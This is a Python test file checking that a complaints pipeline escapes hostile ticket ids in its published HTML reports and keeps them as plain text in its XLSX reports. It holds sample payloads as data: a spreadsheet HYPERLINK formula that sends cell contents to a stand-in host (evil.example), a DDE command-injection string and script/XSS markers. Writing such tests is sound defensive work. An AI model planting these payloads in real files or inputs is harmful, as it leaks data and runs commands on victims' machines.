"""Hostile text that was loaded as data stays data in every output: ticket ids and texts holding
HTML, script, SQL and spreadsheet formulas go from a 1555 file through ingest, the quarterly
indicator and the overdue digest into the published HTML (escaped) and XLSX (plain text cells,
no formula) files."""

from __future__ import annotations

from datetime import date
from pathlib import Path

from corpus import INJECTIONS, SCRIPT, Case, drop_1555, filler, hotline_bytes
from openpyxl import load_workbook
from test_hostile_input import run_case

from adapter_fixtures import hotline_row
from complaints.overdue import compute_digest, publish_digest
from complaints.publish import LocalFolderTarget
from complaints.quarterly import compute_and_store, render_and_publish
from complaints.warehouse import ensure_schema, make_engine

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")'
HOSTILE_IDS = (SCRIPT, FORMULA, INJECTIONS[0], "+cmd|' /C calc'!A0")


def test_hostile_ticket_ids_are_escaped_in_html_and_plain_text_in_xlsx_reports_and_digests(tmp_path, monkeypatch):
    data_dir = tmp_path / "data"
    (data_dir / "shared-drive").mkdir(parents=True)
    monkeypatch.setenv("COMPLAINTS_DATA_DIR", str(data_dir))
    engine = make_engine(f"sqlite:///{tmp_path / 'warehouse.sqlite'}")
    ensure_schema(engine)
    rows = [*filler(20), *[hotline_row(ticket, {"รายละเอียด": SCRIPT}) for ticket in HOSTILE_IDS]]
    case = Case("open matters with hostile ids", "hotline_1555", drop_1555(hotline_bytes(rows)), loaded=len(rows))
    assert run_case(case, engine, data_dir) is None

    compute_and_store(engine, date(2019, 1, 31))
    published = [Path(p) for p in render_and_publish(engine, date(2019, 1, 31))]
    publish_digest(compute_digest(engine, date(2019, 1, 31), 3), LocalFolderTarget(data_dir / "shared-drive"))
    engine.dispose()

    html_files = sorted((data_dir / "shared-drive").rglob("*.html"))
    xlsx_files = sorted((data_dir / "shared-drive").rglob("*.xlsx"))
    assert {p.suffix for p in published} == {".pdf", ".xlsx", ".html"} and len(html_files) >= 2
    for path in html_files:
        page = path.read_text(encoding="utf-8")
        assert "<script" not in page.lower() and "<img src=x" not in page, path
    report_html = next(p for p in published if p.suffix == ".html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt;" in report_html  # the ticket id, shown as text

    seen: set[str] = set()
    for path in xlsx_files:
        book = load_workbook(path)  # not read-only: data_type tells a formula from a text
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path, sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        seen.add(cell.value)
    assert set(HOSTILE_IDS) <= seen  # every hostile id is in the sheets, verbatim, as text
